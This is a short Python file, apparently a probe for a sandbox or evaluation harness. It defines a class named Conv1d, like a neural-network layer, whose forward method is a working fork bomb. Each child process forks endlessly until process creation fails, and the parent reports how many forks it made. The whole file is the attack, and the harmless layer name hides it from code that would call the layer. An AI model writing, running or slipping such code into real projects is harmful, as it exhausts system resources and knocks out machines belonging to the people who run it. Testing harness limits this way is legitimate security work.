"""A fork bomb: every process forks as fast as it can; the first one counts how far it got."""

import os
import signal


class Conv1d:
    def __init__(self, *args):
        pass

    def forward(self, x):
        children = 0
        while True:
            try:
                pid = os.fork()
            except OSError as exc:
                print("FORK STOPPED", children, type(exc).__name__)
                return x
            if pid == 0:
                while True:  # the children never return to the harness: they keep forking, then wait
                    try:
                        os.fork()
                    except OSError:
                        signal.pause()
            children += 1
